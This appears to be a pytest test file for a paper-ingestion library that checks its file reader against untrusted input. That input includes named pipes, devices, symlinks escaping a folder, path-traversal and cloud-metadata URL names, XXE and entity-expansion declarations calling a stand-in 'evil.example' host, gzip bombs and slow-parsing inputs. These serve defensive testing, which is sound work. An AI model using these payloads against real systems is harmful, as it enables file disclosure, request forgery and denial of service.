"""Files of strangers: refused or read within limits that can be set, the good records kept."""

from __future__ import annotations

import gzip
import json
import os
import subprocess
import sys
import textwrap
import threading
import time
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path

import numpy as np
import pytest

from citewise.config import Config
from citewise.errors import UsageError
from citewise.library.embedding import MiniLM, PassageInput, PassageVectors
from citewise.library.library import Library
from citewise.sources import ReadLimits, read
from citewise.types import Paper, Rejection

GOOD = {"title": "A title", "abstract": "We show it. It holds."}
LINE = json.dumps(GOOD).encode()


def split(path: object, **options: object) -> tuple[list[Paper], list[Rejection]]:
    items = list(read(path, **options))  # type: ignore[arg-type]  # passed on as given
    return (
        [item for item in items if isinstance(item, Paper)],
        [item for item in items if isinstance(item, Rejection)],
    )


def seconds(work: Callable[[], object]) -> float:
    """Processor time of this thread, for another program may keep it waiting."""
    begun = time.thread_time()
    work()
    return time.thread_time() - begun


# -- names and kinds of files -------------------------------------------------------------------


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="there are no pipes with names here")
def test_a_pipe_that_nobody_writes_to_is_not_waited_for(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "papers.jsonl").write_bytes(LINE)
    papers, rejections = split([tmp_path / "pipe", tmp_path / "papers.jsonl"])
    assert len(papers) == 1
    assert [r.file for r in rejections] == ["pipe"]
    assert "empty" in rejections[0].reason
    papers, rejections = split(tmp_path)
    assert len(papers) == 1, "in a folder a pipe is passed by"
    assert not rejections


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="there are no pipes with names here")
def test_a_pipe_that_is_written_to_is_read(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    writer = os.open(tmp_path / "pipe", os.O_RDWR)
    os.write(writer, LINE + b"\n")

    def later() -> None:
        # While it is silent a pipe has not ended: its end is the end of its last writer.
        os.write(writer, json.dumps({**GOOD, "title": "Later"}).encode())
        os.close(writer)

    threading.Timer(0.3, later).start()
    papers, rejections = split(tmp_path / "pipe", format="jsonl")
    assert [p.title for p in papers] == [GOOD["title"], "Later"]
    assert not rejections


@pytest.mark.parametrize("device", ["/dev/zero", "/dev/urandom", "/dev/null", "a terminal"])
def test_a_device_is_refused(device: str, tmp_path: Path) -> None:
    if device == "a terminal":
        # /dev/tty itself cannot be opened where tests have no terminal.
        pty = pytest.importorskip("pty")
        device = os.ttyname(pty.openpty()[1])
    if not os.path.exists(device):
        pytest.skip(f"there is no {device} here")
    (tmp_path / "papers.jsonl").write_bytes(LINE)
    (tmp_path / "link").symlink_to(device)
    papers, rejections = split([device, tmp_path / "link", tmp_path / "papers.jsonl"])
    assert len(papers) == 1
    assert len(rejections) == 2
    assert all("cannot be opened" in r.reason for r in rejections)


def test_links_out_of_a_folder_are_not_followed(tmp_path: Path) -> None:
    secret = tmp_path / "private.jsonl"
    secret.write_bytes(json.dumps({**GOOD, "title": "Private"}).encode())
    folder = tmp_path / "theirs"
    (folder / "sub").mkdir(parents=True)
    (folder / "papers.jsonl").write_bytes(LINE)
    (folder / "absolute.jsonl").symlink_to(secret)
    (folder / "sub" / "climbing.jsonl").symlink_to(Path("..", "..", "private.jsonl"))
    (folder / "loop.jsonl").symlink_to(folder / "loop.jsonl")
    (folder / "outside").symlink_to(tmp_path)
    (folder / "same.jsonl").symlink_to(folder / "papers.jsonl")
    papers, rejections = split(folder)
    assert {p.title for p in papers} == {"A title"}, "nothing of the private file"
    assert len(papers) == 2, "a link within the folder is a file of it"
    assert sorted(r.file for r in rejections) == ["absolute.jsonl", "climbing.jsonl"]
    assert all("link" in r.reason for r in rejections)
    assert [p.title for p in split(folder / "absolute.jsonl")[0]] == ["Private"], (
        "named by the user"
    )


@pytest.mark.parametrize(
    "name",
    [
        "../../../../etc/passwd\0.jsonl",
        "x" * 5000,
        "\ud800.jsonl",
        "http://169.254.169.254/latest",
        "file:///etc/passwd",
        "/proc/self/mem",
    ],
)
def test_names_that_are_none_are_refused_beside_good_ones(name: str, tmp_path: Path) -> None:
    (tmp_path / "papers.jsonl").write_bytes(LINE)
    papers, rejections = split([name, tmp_path / "papers.jsonl"])
    assert len(papers) == 1
    assert len(rejections) == 1
    for rejection in rejections:
        assert rejection.file.isprintable()


@pytest.mark.skipif(sys.platform == "win32", reason="no such names there")
def test_names_of_files_are_kept_and_shown_without_harm(tmp_path: Path) -> None:
    names = [b"cr\r\nlf: 1 added.jsonl", b"esc\x1b[31m.jsonl", b"no-utf8-\xff.jsonl"]
    folder = os.path.join(os.fsencode(tmp_path), b"odd-\xff\x1b[2J")
    os.mkdir(folder)
    for number, name in enumerate(names):
        with open(os.path.join(folder, name), "wb") as file:
            file.write(
                json.dumps({"title": f"T{number}", "abstract": f"We show {number}."}).encode()
            )
    with Library.open(tmp_path / "library") as library:
        report = library.ingest(os.fsdecode(folder), embed=False)
        assert (report.added, report.rejections) == (3, 0)
        for paper in library.papers():
            [place] = library.paper(paper.id).places
            assert place.file.isprintable()
            place.file.encode()


# -- content ------------------------------------------------------------------------------------


def linear(make: Callable[[int], bytes], tmp_path: Path, size: int, **options: object) -> None:
    """Twice the input takes no more than about twice the time."""
    path = tmp_path / "input"
    times = []
    for factor in (1, 4):
        path.write_bytes(make(size * factor))
        times.append(min(seconds(lambda: split(path, **options)) for _ in range(2)))
    # A quadratic way takes 16 times as long.
    assert times[1] < 9 * max(times[0], 0.01), times


@pytest.mark.parametrize(
    ("name", "make"),
    [
        ("jsonl", lambda n: b'{"a": ' + b"[" * 70 + b'\\"' * n + b"\n" + LINE),
        ("jsonl", lambda n: b"[" + LINE + b"," + b'{"a":"' + b"x" * 50 * n + b'"},' + b"{},0," * n),
        ("jsonl", lambda n: b'{"title": "T", "x": ' + b"[" * n + b"]" * n + b"}\n" + LINE),
        ("csv", lambda n: b"title,abstract\nA," + b'"",' * n + b"\n" + b'"' * n),
        ("ris", lambda n: b"TY  - JOUR\nTI  - A\n" + b"AB  - b\n" * n + b"ER  - \n"),
        ("bibtex", lambda n: b"@article{a, title={A}, abstract={" + b"{" * n + b"\n" + b"@" * n),
        (
            "bibtex",
            lambda n: (
                b"@article{a, title={A}, abstract={%b%b}}" % (b"\\a{" * (n // 8), b"}" * (n // 8))
            ),
        ),
        ("pubmed", lambda n: b"<PubmedArticleSet>" + b"<PubmedArticle><" * (n // 8)),
        # Longer than one piece of 64 KB, or nothing is carried from one to the next.
        ("arxiv", lambda n: b"<feed><entry><title>T</title>" + b"<a b='" * (n * 100)),
        ("daily-papers", lambda n: b"Daily Papers\n\n" + b"\xc2\xb7\n12 authors\n" * n),
        ("openalex", lambda n: b'{"results": [' + b'{"display_name": "T", "x": {}},' * n),
    ],
)
def test_time_grows_with_the_file_and_no_faster(
    name: str, make: Callable[[int], bytes], tmp_path: Path
) -> None:
    linear(make, tmp_path, 2000, format=name)


CHILD = textwrap.dedent(
    """
    import sys
    from citewise.sources import ReadLimits, read
    papers = rejections = 0
    limits = ReadLimits(max_line_bytes=int(sys.argv[3]))
    for item in read(sys.argv[1], format=sys.argv[2] or None, limits=limits):
        papers += hasattr(item, "abstract")
        rejections += getattr(item, "count", 0) if not hasattr(item, "abstract") else 0
    # Not ru_maxrss: it begins with what the test's own process held when it started this one.
    status = dict(line.split(":", 1) for line in open("/proc/self/status") if ":" in line)
    print(papers, rejections, int(status["VmHWM"].split()[0]) // 1024)
    """
)


def measured(
    path: Path, name: str = "", limit_s: float = 100, line: int = ReadLimits().max_line_bytes
) -> tuple[int, int, int]:
    """Papers, rejections and MiB of memory of reading a file in a process of its own."""
    done = subprocess.run(
        [sys.executable, "-c", CHILD, str(path), name, str(line)],
        capture_output=True,
        text=True,
        timeout=limit_s,
        check=True,
    )
    papers, rejections, mib = map(int, done.stdout.split())
    return papers, rejections, mib


@pytest.mark.skipif(sys.platform != "linux", reason="memory is measured in KiB on Linux alone")
@pytest.mark.parametrize(
    ("kind", "start", "papers"),
    [
        ("jsonl", LINE + b'\n{"title": "', 1),
        ("pubmed", b"<PubmedArticleSet a='", 0),
        ("arxiv", b"<feed><!--", 0),
    ],
)
def test_a_bomb_takes_little_memory(kind: str, start: bytes, papers: int, tmp_path: Path) -> None:
    path = tmp_path / "bomb.gz"
    with gzip.open(path, "wb", 1) as file:
        file.write(start)
        for _ in range(48):
            file.write(b"x" * 2**20)
    assert path.stat().st_size < 2**20
    found, rejections, mib = measured(path, kind, line=2**20)
    assert (found, rejections) == (papers, 1)
    # Held whole, the 48 MiB of it would stand on top of some 60 of the program itself.
    assert mib < 90, "a line or tag is held up to its own limit, here 1 MiB, a few times over"


@pytest.mark.skipif(sys.platform != "linux", reason="memory is measured in KiB on Linux alone")
def test_a_record_of_very_many_parts_stays_under_a_gigabyte(tmp_path: Path) -> None:
    path = tmp_path / "parts.jsonl"
    # 3 MiB of the 16 MiB that a line may have: memory grows with it, and so does the ceiling.
    dicts = b'{"title": "T", "abstract": "A b.", "x": [' + b"{}," * 2**20 + b"{}]}"
    path.write_bytes(b"\n".join([LINE, dicts, LINE]))
    papers, rejections, mib = measured(path)
    assert (papers, rejections) == (3, 0)
    assert mib < 200


@pytest.mark.skipif(sys.platform != "linux", reason="memory is measured in KiB on Linux alone")
def test_very_many_bad_lines_are_counted_and_not_all_kept(tmp_path: Path) -> None:
    path = tmp_path / "lines.jsonl"
    path.write_bytes(LINE + b"\n" + b"{\n" * 300_000 + LINE)
    papers, rejections, mib = measured(path, "jsonl")
    assert (papers, rejections) == (2, 300_000)
    # Kept, they would take some 70 on top.
    assert mib < 90
    _, listed = split(path, limits=ReadLimits(max_rejections=3))
    assert [r.count for r in listed] == [1, 1, 1, 299_997]
    assert listed[-1].line == 5
    assert "299997 in all" in listed[-1].reason


@pytest.mark.parametrize(
    "declaration",
    [
        '<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/evil.dtd"> %a;]>',
        '<!DOCTYPE x SYSTEM "http://evil.example/evil.dtd">',
    ],
)
@pytest.mark.parametrize("kind", ["pubmed", "arxiv"])
def test_xml_fetches_and_expands_nothing(kind: str, declaration: str, tmp_path: Path) -> None:
    good = {
        "pubmed": "<PubmedArticle><MedlineCitation><PMID>1</PMID><Article><ArticleTitle>T"
        "</ArticleTitle><Abstract><AbstractText>We show &a;.</AbstractText></Abstract></Article>"
        "</MedlineCitation></PubmedArticle>",
        "arxiv": '<entry xmlns="http://www.w3.org/2005/Atom"><id>http://arxiv.org/abs/2401.00001'
        "</id><title>T</title><summary>We show &a;.</summary></entry>",
    }[kind]
    path = tmp_path / "evil.xml"
    root = {"pubmed": "PubmedArticleSet", "arxiv": "feed"}[kind]
    path.write_text(f'<?xml version="1.0"?>{declaration}<{root}>{good}</{root}>')
    (tmp_path / "good.jsonl").write_bytes(LINE)
    # A fetch would be seen by only_loopback, in conftest.py.
    papers, rejections = split([path, tmp_path / "good.jsonl"], limits=None)
    assert rejections
    assert not any("not recognised" in r.reason for r in rejections)
    assert all("root:" not in p.abstract and "lol" not in p.abstract for p in papers)
    assert papers[-1].title == GOOD["title"]


def test_odd_values_cost_their_own_record_alone(tmp_path: Path) -> None:
    odd = [
        b'{"title": "NaN", "abstract": NaN}',
        b'{"title": "Infinity", "abstract": "We show.", "author_count": Infinity}',
        b'{"title": "half a character \xe2\x82", "abstract": "x"}',
        '{"title": "latin \xe4", "abstract": "x"}'.encode("latin-1"),
        b'{"title": "lone \\ud800 surrogate", "abstract": "We \\udfff show."}',
        b'{"title": "' + b"x" * 300_000 + b'", "abstract": "long title"}',
        b'{"title": "long", "abstract": "' + b"x. " * 100_000 + b'"}',
        b'{"title": {"title": 1}, "abstract": ["x"]}',
        b'{"id": "same", "title": "One", "abstract": "The first words of all."}',
        b'{"id": "same", "title": "Two", "abstract": "Something else stands here."}',
    ]
    path = tmp_path / "odd.jsonl"
    path.write_bytes(b"\n".join([LINE, *odd, LINE]))
    with Library.open(tmp_path / "library") as library:
        report = library.ingest(path, format="jsonl", embed=False)
        titles = {paper.title for paper in library.papers()}
    assert {"A title", "Infinity", "lone \ufffd surrogate", "One", "Two"} == titles
    assert report.duplicate == 1
    assert [r.line for r in report.rejected] == [2, 4, 5, 7, 8, 9]
    assert "200000" in report.rejected[4].reason


def test_limits_are_settings(tmp_path: Path) -> None:
    settings = tmp_path / "config.toml"
    settings.write_text("[limits]\nmax_line_bytes = 200\nmax_text_chars = 20\n")
    limits = Config.load(env={}, file=settings).limits
    assert (limits.max_line_bytes, limits.max_text_chars) == (200, 20)
    assert limits.max_depth == ReadLimits().max_depth
    path = tmp_path / "papers.jsonl"
    path.write_bytes(LINE + b"\n" + b'{"title": "T", "abstract": "Short."}')
    with Library.open(tmp_path / "library") as library:
        report = library.ingest(path, embed=False, limits=limits)
    assert (report.added, report.rejections) == (1, 1)
    for wrong in ("max_depth = 0", "max_depth = 'x'", "max_speed = 1", "max_depth = true"):
        settings.write_text(f"[limits]\n{wrong}\n")
        with pytest.raises(UsageError, match="max_depth"):
            Config.load(env={}, file=settings)


def test_long_texts_are_taken_in_few_at_a_time(tmp_path: Path) -> None:
    """Some thousands of sentences a paper: their offsets and vectors are what takes memory."""
    asked: list[int] = []

    class Watched(MiniLM):
        def embed_passages(self, passages: Iterable[PassageInput]) -> Iterator[PassageVectors]:
            given = list(passages)
            asked.append(sum(len(passage.sentences) for passage in given))
            vector = np.eye(1, self.dimensions, dtype=np.float32)
            for passage in given:
                sentences = np.repeat(vector, len(passage.sentences), 0)
                yield PassageVectors(vector[0], sentences, 8, False)

    long = [Paper(f"p{n}", f"T{n}", f"Number {n}. " + "It is so. " * 3000) for n in range(10)]
    with Library.open(tmp_path / "library", embedder=Watched()) as library:
        assert library.add(long).added == 10
        assert library.waiting() == 0
    assert sum(asked) >= 30_000
    assert max(asked) < 15_000
